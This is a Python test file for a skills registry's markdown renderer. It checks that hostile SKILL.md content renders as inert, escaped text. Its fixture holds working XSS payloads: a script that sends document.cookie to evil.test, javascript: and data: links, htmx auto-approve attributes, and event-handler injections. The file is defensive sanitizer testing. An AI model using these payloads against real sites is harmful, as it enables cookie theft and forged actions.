"""A SKILL.md body is hostile input: rendered, it must be inert (no script, no javascript: link, no hx-*/on*)."""

from __future__ import annotations

from html.parser import HTMLParser

from skills_registry.rendering import diff_lines, render_markdown

HOSTILE = """# Deploy helper

<script>fetch('https://evil.test/?c=' + document.cookie)</script>
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>

[click me](javascript:alert(1)) and [again](JaVaScRiPt:alert(2)) and [encoded](&#106;avascript:alert(3))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [ok](https://docs.example.test/release)

<a href="/reviews/" hx-post="/reviews/approve-all/" hx-trigger="load">approve everything</a>
<div hx-get="/skills/" hx-swap="outerHTML" onclick="steal()">boxed</div>
<img src="x.png" onerror="alert(document.domain)">
<iframe src="https://evil.test"></iframe>

![pixel](javascript:alert(4))

```html
<script>alert("in a code block")</script>
```
"""


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def parsed(html: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


def test_hostile_markdown_renders_inert():
    html = str(render_markdown(HOSTILE))
    tags = parsed(html)
    names = {t for t, _ in tags}
    assert names.isdisjoint({"script", "iframe", "div", "style", "object", "embed", "form"}), names
    for tag, attrs in tags:
        for attr, value in attrs.items():
            assert not attr.startswith(("on", "hx-", "data-")), (tag, attr)
            if attr in ("href", "src"):
                assert not (value or "").strip().lower().startswith(("javascript:", "data:", "vbscript:")), value
    # The hostile markup is shown as text, escaped, never as markup.
    assert "&lt;script&gt;fetch(" in html
    assert "<script" not in html.lower()
    assert '&lt;a href="/reviews/" hx-post=' in html  # the tag's opening bracket is escaped: text, not markup
    assert '&lt;img src="x.png" onerror=' in html
    links = [attrs for tag, attrs in tags if tag == "a"]
    assert links == [{"href": "https://docs.example.test/release", "rel": "noopener nofollow"}]


def test_allowed_markdown_survives():
    html = str(
        render_markdown("## Steps\n\n1. Run `make release`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ **new**")
    )
    assert "<h3>Steps</h3>" in html  # demoted under the page's h1, as # becomes h2
    assert "<code>make release</code>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert "<strong>new</strong>" in html and "<s>old</s>" in html


def test_diff_lines_mark_words_and_lines():
    rows = diff_lines("# T\nDeploy with make deploy.\nkeep\n", "# T\nDeploy with make release.\nkeep\nnew line\n")
    kinds = [r.kind for r in rows]
    assert kinds == ["ctx", "del", "add", "ctx", "add"]
    assert [t for changed, t in rows[1].parts if changed] == ["deploy"]
    assert [t for changed, t in rows[2].parts if changed] == ["release"]
    assert rows[4].text == "new line" and rows[4].new_no == 4
